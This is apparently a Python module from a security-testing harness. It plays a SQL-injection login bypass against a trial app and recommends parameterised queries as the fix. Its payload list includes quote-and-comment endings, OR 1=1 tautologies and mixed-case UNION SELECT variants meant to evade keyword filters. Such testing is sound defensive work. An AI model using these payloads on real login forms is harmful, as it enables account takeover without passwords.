"""Logging in without a password: what is typed becomes part of the query."""

from __future__ import annotations

from checker.attacks.attack import Attack, Target
from checker.attacks.people import enter
from checker.attacks.story import Story, Teller
from checker.suites.trial import Trial
from checker.visitor import Visitor


def play(trial: Trial) -> Story:
    """Try to be the administrator: first in the way every book begins with, then in others."""
    told = Teller()
    admin = trial.account(username="admin", email="admin@example.org")
    enter(trial, trial.visitor(name="the administrator"), admin)

    attacker = trial.visitor(name="the attacker")
    attacker.names.append(admin.username)  # being greeted by it would tell as well
    (typed, password), *others = _attempts(admin.login)
    page = attacker.log_in(typed, password)
    worked = attacker.logged_in()
    told.scene(
        f"The attacker types the name {typed!r}, with a blank at the end, and any password.",
        "The quote ends the text in a query made by pasting, and `-- ` makes a comment of the "
        "rest, the question for the password included.",
        page=page,
        came_back=_received(trial, admin.login),
    )
    if not worked:
        found = _first_that_works(attacker, others)
        if found is None:
            told.scene(
                f"The attacker tries {len(others)} other ways: other quotes, OR, UNION.",
                "Whatever a query may be made of, one of them tends to fit.",
                sent=[f"{name!r}, {secret!r}" for name, secret in others[:5]] + ["…"],
                came_back=["Nobody is logged in after any of them."],
            )
        else:
            worked = True
            told.scene(
                f"That was not it. The attacker tries others, and the name {found[0]!r} with the "
                f"password {found[1]!r} fits.",
                "Refusing one spelling of an attack leaves all the others.",
                page=attacker.page,
            )
    if worked:
        return told.end(
            True,
            "The attacker is logged in and knows no password: what was typed was executed. Hand "
            'values to the driver as parameters: `cursor.execute("… WHERE username = %s", '
            "(username,))`.",
        )
    return told.end(
        False,
        "Nothing that was typed logged anybody in. As a parameter it is one piece of text, however "
        "many quotes are in it: the app looks for an account whose name is exactly that.",
    )


def _attempts(name: str) -> list[tuple[str, str]]:
    """Return names with passwords that log in where a query is put together from text."""
    comments = [(f"{name}{end}", "x") for end in ("' -- ", "'#", '" -- ', "') -- ", "'/*")]
    always = [(f"x{quote} OR {quote}1{quote}={quote}1", "x") for quote in "'\""]
    always += [("' OR 1=1 -- ", "x"), ("' OR '1'='1", "' OR '1'='1"), (f"{name}\\", " OR 1=1 -- ")]
    always += [(name, "' OR '1'='1"), (name, f"' OR username='{name}' -- ")]
    rows = ("1,'{0}','x'", "1,'x',1", "'{0}','x'", "'x'", "1,'x'", "1,'{0}','x',1")
    # Upper and lower case mixed, for whoever looks for the word.
    unions = [f"x' uNiOn SeLeCt {row.format(name)}" for row in rows]
    # With the query's own last quote where that fits, for whoever looks for the comment.
    unions = [f"{union} -- " for union in unions] + [union[:-1] for union in unions]
    return comments + always + [(union, "x") for union in unions]


def _first_that_works(attacker: Visitor, attempts: list[tuple[str, str]]) -> tuple[str, str] | None:
    """Return the first attempt that logs in, and leave its answer in front of the attacker."""
    for typed, password in attempts:
        page = attacker.log_in(typed, password)
        if attacker.logged_in():
            attacker.page = page
            return typed, password
    return None


def _received(trial: Trial, name: str) -> list[str]:
    """Return what the database received with the name in it, where its log can be read."""
    queries = [entry.text for entry in trial.database.log() if entry.kind == "Query"]
    about = [text for text in queries if name in text and "-- " in text]
    return [f"The database received: {about[-1]}"] if about else []


ATTACK = Attack(
    name="sql-login",
    title="log in as somebody else with a quote and a comment",
    since=1,
    works_on=Target(1, "f-string"),
    fails_on=Target(1),
    play=play,
)
